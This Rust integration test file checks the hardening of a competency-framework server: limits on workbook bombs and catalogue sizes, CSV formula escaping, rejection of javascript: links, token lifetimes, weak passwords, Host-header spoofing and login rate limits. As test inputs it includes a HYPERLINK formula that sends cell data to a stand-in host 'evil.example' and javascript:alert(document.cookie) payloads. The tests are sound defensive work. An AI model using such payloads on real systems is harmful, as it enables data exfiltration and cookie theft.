//! Hardening (issue 18): every limit a client can run into is answered with a problem that
//! names it, and nothing is stored; exports carry no live formulas; only web addresses are
//! accepted as links; token lifetimes and passwords are checked.

use crate::common::{TestServer, each_backend, framework, json};
use framewright_model::Limits;
use framewright_server::Settings;
use reqwest::Method;
use serde_json::{Value, json};

async fn problem(response: reqwest::Response, status: u16) -> Value {
    assert_eq!(response.status(), status, "status");
    assert_eq!(
        response.headers()["content-type"],
        "application/problem+json"
    );
    json(response).await
}

async fn upload(s: &TestServer, token: &str, path: &str, body: Vec<u8>) -> reqwest::Response {
    s.as_(token, Method::POST, path)
        .header("content-type", "application/octet-stream")
        .body(body)
        .send()
        .await
        .unwrap()
}

fn bomb(name: &str) -> Vec<u8> {
    std::fs::read(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../interop/tests/fixtures/bombs")
            .join(name),
    )
    .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workbook_bombs_are_refused_naming_the_limit_and_nothing_is_stored() {
    each_backend(Settings::default(), |s: TestServer| async move {
        let alpha = s.org("alpha").await;
        let designer = &alpha.designer.token;
        for format in ["xlsx", "sfia"] {
            let path = format!("/api/v1/catalogues/import/{format}?name=bomb&licence=ours");
            let refused = upload(&s, designer, &path, bomb("bomb.xlsx")).await;
            let body = problem(refused, 413).await;
            assert_eq!(body["type"], "urn:framewright:problem:limit-exceeded");
            assert_eq!(body["limit"]["name"], "max_workbook_bytes", "{body}");
            let detail = body["detail"].as_str().unwrap();
            assert!(detail.contains("Nothing was stored"), "{detail}");
            assert!(detail.contains("`max_workbook_bytes`"), "{detail}");
            // Headers that understate the size: refused at the first byte past them.
            let refused = upload(&s, designer, &path, bomb("bomb-lying.xlsx")).await;
            let body = problem(refused, 422).await;
            assert!(
                body["detail"]
                    .as_str()
                    .unwrap()
                    .contains("cannot be unpacked"),
                "{body}"
            );
        }
        let missing = s
            .send_as(designer, Method::GET, "/api/v1/catalogues/bomb")
            .await;
        assert_eq!(missing.status(), 404);
        // The server still answers.
        let health = s.request(Method::GET, "/healthz").send().await.unwrap();
        assert_eq!(health.status(), 200);
        s
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn catalogues_and_frameworks_larger_than_the_limits_are_refused() {
    let settings = Settings {
        limits: Limits {
            max_items: 3,
            max_framework_competencies: 2,
            max_name_chars: 40,
            ..Limits::default()
        },
        ..Settings::default()
    };
    each_backend(settings, |s: TestServer| async move {
        let alpha = s.org("alpha").await;
        let designer = &alpha.designer.token;
        let competencies: Vec<Value> = (0..4)
            .map(|i| json!({ "id": format!("c{i}"), "name": format!("Competency {i}"), "kind": "skill" }))
            .collect();
        let catalogue = json!({
            "id": "big", "name": "Big", "licence": "CC0-1.0", "competencies": competencies,
        });
        let refused = s
            .send_json(designer, Method::POST, "/api/v1/catalogues", &catalogue)
            .await;
        let body = problem(refused, 413).await;
        assert_eq!(body["limit"], json!({ "name": "max_items", "value": 3 }));
        assert_eq!(body["errors"][0]["pointer"], "/competencies");

        // The same through a file import.
        let mut csv = String::from("id,name,alt_labels,definition\n");
        for i in 0..4 {
            csv.push_str(&format!("c{i},Competency {i},,\n"));
        }
        let refused = upload(
            &s,
            designer,
            "/api/v1/catalogues/import/csv?name=big",
            csv.into_bytes(),
        )
        .await;
        assert_eq!(problem(refused, 413).await["limit"]["name"], "max_items");

        let mut long = catalogue.clone();
        long["competencies"] = json!([{ "id": "a", "name": "x".repeat(41), "kind": "skill" }]);
        let refused = s
            .send_json(designer, Method::POST, "/api/v1/catalogues", &long)
            .await;
        let body = problem(refused, 422).await;
        assert_eq!(body["limit"]["name"], "max_name_chars");
        assert_eq!(body["errors"][0]["pointer"], "/competencies/0/name");
        assert_eq!(body["errors"][0]["code"], "max_name_chars");
        let listed = json(s.send_as(designer, Method::GET, "/api/v1/catalogues").await).await;
        assert!(!listed.to_string().contains("\"big\""), "{listed}");

        // Frameworks: competencies per framework, on creation and on every save.
        let mut three = framework("three");
        three["competencies"]
            .as_array_mut()
            .unwrap()
            .push(json!({ "id": "third", "name": "Third", "kind": "skill" }));
        let refused = s
            .send_json(designer, Method::POST, "/api/v1/frameworks", &three)
            .await;
        let body = problem(refused, 413).await;
        assert_eq!(body["limit"]["name"], "max_framework_competencies");
        let location = s.create_framework(designer, "two").await;
        let mut grown = framework("two");
        grown["competencies"]
            .as_array_mut()
            .unwrap()
            .push(json!({ "id": "third", "name": "Third", "kind": "skill" }));
        let refused = s
            .send_json_if(designer, Method::PUT, &location, "\"1\"", &grown)
            .await;
        assert_eq!(
            problem(refused, 413).await["limit"]["name"],
            "max_framework_competencies"
        );
        let mut renamed = framework("two");
        renamed["title"] = json!("t".repeat(41));
        let refused = s
            .send_json_if(designer, Method::PUT, &location, "\"1\"", &renamed)
            .await;
        let body = problem(refused, 422).await;
        assert_eq!(body["errors"][0]["pointer"], "/title");
        let current = s.send_as(designer, Method::GET, &location).await;
        assert_eq!(crate::common::etag(&current), 1, "nothing was saved");
        s
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_carry_no_live_formulas() {
    each_backend(Settings::default(), |s: TestServer| async move {
        let alpha = s.org("alpha").await;
        let designer = &alpha.designer.token;
        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        let mut document = framework("formulas");
        document["competencies"][0]["name"] = json!(evil);
        document["competencies"][1]["definition"] = json!("@SUM(1+1)");
        let location = s.save_framework(designer, &document).await;
        for format in ["csv", "workbook-csv"] {
            let export = s
                .send_as(
                    designer,
                    Method::GET,
                    &format!("{location}/export/{format}"),
                )
                .await;
            assert_eq!(export.status(), 200);
            let text = export.text().await.unwrap();
            assert!(text.contains("'=HYPERLINK("), "{format}: {text}");
            assert!(text.contains("'@SUM(1+1)"), "{format}: {text}");
            for line in text.lines() {
                for cell in line.split(',') {
                    let cell = cell.trim_start_matches('"');
                    assert!(
                        !cell.starts_with(['=', '+', '@']),
                        "{format}: a live formula in {line}"
                    );
                }
            }
        }
        s
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_web_addresses_are_accepted_as_links() {
    each_backend(Settings::default(), |s: TestServer| async move {
        let alpha = s.org("alpha").await;
        let designer = &alpha.designer.token;
        let catalogue = json!({
            "id": "links", "name": "Links", "licence": "CC0-1.0",
            "url": "javascript:alert(document.cookie)",
            "competencies": [
                { "id": "a", "name": "A", "kind": "skill", "uri": "JavaScript:alert(1)" },
                { "id": "b", "name": "B", "kind": "skill", "uri": "https://example.org/b" }
            ]
        });
        let refused = s
            .send_json(designer, Method::POST, "/api/v1/catalogues", &catalogue)
            .await;
        let body = problem(refused, 422).await;
        let pointers: Vec<&str> = body["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["pointer"].as_str().unwrap())
            .collect();
        assert_eq!(pointers, ["/url", "/competencies/0/uri"], "{body}");
        let csv = "id,name,alt_labels,definition,uri\na,A,,,javascript:alert(1)\n";
        let refused = upload(
            &s,
            designer,
            "/api/v1/catalogues/import/csv?name=links",
            csv.into(),
        )
        .await;
        let body = problem(refused, 422).await;
        assert_eq!(body["location"]["line"], 2, "{body}");
        assert_eq!(body["location"]["column"], "uri", "{body}");

        let mut document = framework("sources");
        document["sources"] =
            json!([{ "catalogue": "x", "name": "X", "url": "javascript:alert(1)" }]);
        let refused = s
            .send_json(designer, Method::POST, "/api/v1/frameworks", &document)
            .await;
        let body = problem(refused, 422).await;
        assert_eq!(body["errors"][0]["pointer"], "/sources/0/url", "{body}");
        s
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn token_lifetimes_and_common_passwords_are_refused() {
    each_backend(Settings::default(), |s: TestServer| async move {
        let alpha = s.org("alpha").await;
        let viewer = &alpha.viewer.token;
        for days in [0, 3651, 100_000_000] {
            let refused = s
                .send_json(viewer, Method::POST, "/api/v1/tokens", &json!({ "name": "t", "expires_in_days": days }))
                .await;
            let body = problem(refused, 422).await;
            assert_eq!(body["errors"][0]["pointer"], "/expires_in_days", "{days}");
        }
        for days in [1, 3650] {
            let created = s
                .send_json(viewer, Method::POST, "/api/v1/tokens", &json!({ "name": "t", "expires_in_days": days }))
                .await;
            assert_eq!(created.status(), 201, "{days}");
            assert!(json(created).await["token"]["expires_at"].is_string());
        }
        let owner = &alpha.owner.token;
        for weak in ["aaaaaaaaaa", "password12", "Password123!", "1234567890", "qwertyuiop", "abcabcabcabc", "Welcome2024"] {
            let refused = s
                .send_json(owner, Method::POST, "/api/v1/members", &json!({ "email": "new@alpha.test", "password": weak, "role": "viewer" }))
                .await;
            let body = problem(refused, 422).await;
            assert_eq!(body["errors"][0]["pointer"], "/password", "{weak}");
            assert!(body.to_string().contains("too common"), "{weak}: {body}");
        }
        let added = s
            .send_json(owner, Method::POST, "/api/v1/members", &json!({ "email": "new@alpha.test", "password": "lantern orbit meadow", "role": "viewer" }))
            .await;
        assert_eq!(added.status(), 201);
        s
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_identifiers_are_per_organisation_and_uris_use_the_public_address() {
    let settings = Settings {
        public_url: Some("https://frameworks.example.org/".into()),
        ..Settings::default()
    };
    each_backend(settings, |s: TestServer| async move {
        let mut documents = Vec::new();
        for slug in ["alpha", "beta"] {
            let org = s.org(slug).await;
            let designer = &org.designer.token;
            let location = s.create_framework(designer, "analyst").await;
            let published = s
                .send_json_if(
                    designer,
                    Method::POST,
                    &format!("{location}/publish"),
                    "\"1\"",
                    &json!({ "version": "1.0.0" }),
                )
                .await;
            assert_eq!(published.status(), 201);
            let list = s
                .as_(designer, Method::GET, "/ims/case/v1p1/CFDocuments")
                .header("host", "evil.example")
                .header("x-forwarded-proto", "https")
                .send()
                .await
                .unwrap();
            let list = json(list).await;
            let document = list["CFDocuments"][0].clone();
            let uri = document["uri"].as_str().unwrap();
            assert!(
                uri.starts_with("https://frameworks.example.org/ims/case/v1p1/CFDocuments/"),
                "{uri}"
            );
            let exported = json(
                s.send_as(designer, Method::GET, &format!("{location}/export/case"))
                    .await,
            )
            .await;
            assert_eq!(
                exported["CFDocument"]["identifier"], document["identifier"],
                "the export and the provider agree"
            );
            documents.push(document["identifier"].as_str().unwrap().to_string());
        }
        assert_ne!(
            documents[0], documents[1],
            "two organisations' frameworks with one id have different identifiers"
        );
        s
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_in_attempts_are_limited_per_account_from_any_address() {
    let settings = Settings {
        login_burst: 3,
        login_refill: std::time::Duration::from_secs(600),
        ..Settings::default()
    };
    each_backend(settings, |s: TestServer| async move {
        let _alpha = s.org("alpha").await;
        let attempt = |client: reqwest::Client, email: &'static str| {
            let url = format!("{}/api/v1/session", s.base);
            async move {
                client
                    .post(url)
                    .json(&json!({ "email": email, "password": "not the password at all" }))
                    .send()
                    .await
                    .unwrap()
            }
        };
        let from = |last: u8| {
            reqwest::Client::builder()
                .local_address(std::net::IpAddr::from([127, 0, 0, last]))
                .build()
                .unwrap()
        };
        // Three wrong passwords for the designer from one address use up the account's burst.
        for _ in 0..3 {
            let wrong = attempt(from(1), "designer@alpha.test").await;
            assert_eq!(wrong.status(), 401);
        }
        // Another address (as behind a proxy, or another attacker) is refused for that account…
        let refused = attempt(from(2), "designer@alpha.test").await;
        let body = problem(refused, 429).await;
        assert!(
            body["detail"].as_str().unwrap().contains("this account"),
            "{body}"
        );
        // …but not for another account.
        let other = attempt(from(2), "viewer@alpha.test").await;
        assert_eq!(other.status(), 401);
        s
    })
    .await;
}
